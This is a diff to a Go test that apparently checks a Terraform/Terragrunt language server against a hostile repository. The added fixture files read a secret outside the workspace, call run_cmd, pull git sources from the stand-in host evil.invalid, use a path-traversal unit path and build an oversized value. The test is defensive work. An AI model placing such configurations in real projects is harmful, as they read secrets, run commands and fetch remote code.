@@ -48,6 +48,42 @@ func TestMain(m *testing.M) {
 // does not belong to it.
 func hostileFiles(t *testing.T, outside string) string {
 	dir := unpack(t, `
+-- all.rules.hcl --
+rule "reads" {
+  resource = "*"
+  enforce {
+    condition     = file("`+outside+`/secret") == ""
+    error_message = "x ${file("`+outside+`/secret")}"
+  }
+}
+-- stack/terragrunt.stack.hcl --
+locals {
+  ran = run_cmd("touch", "`+outside+`/ran")
+}
+unit "far" {
+  source = "git::https://evil.invalid/x.git"
+  path   = "far"
+}
+unit "near" {
+  source = "./unit"
+  path   = "near"
+  values = {
+    ran = local.ran
+    big = join("", [for i in range(100000) : "0123456789"])
+  }
+}
+unit "out" {
+  source = "./unit"
+  path   = "../../../../../../../../../`+outside+`/made"
+}
+-- stack/unit/terragrunt.hcl --
+inputs = {
+  ran = values.ran
+  big = values.big
+  own = run_cmd("touch", "`+outside+`/ran")
+}
+-- json/main.tf.json --
+{"locals": {"secret": "${file("`+outside+`/secret")}", "x": "${local.secret}"}, "module": {"m": {"source": "git::https://evil.invalid/x.git"}}}
 -- terragrunt.hcl --
 locals {
   ran  = run_cmd("touch", "`+outside+`/ran")
@@ -222,7 +258,7 @@ func TestHostileRepository(t *testing.T) {
 		}
 		return err == nil
 	}
-	for _, name := range []string{"main.tf", "terragrunt.hcl", "deep.tf", "laughs.yaml"} {
+	for _, name := range []string{"main.tf", "terragrunt.hcl", "deep.tf", "laughs.yaml", "stack/terragrunt.stack.hcl", "stack/unit/terragrunt.hcl", "json/main.tf.json", "all.rules.hcl"} {
 		text := c.open(name)
 		doc := map[string]any{"textDocument": map[string]any{"uri": c.uri(name)}}
 		for _, method := range []string{"diagnostic", "documentSymbol", "foldingRange", "semanticTokens/full", "documentLink", "codeLens", "formatting"} {
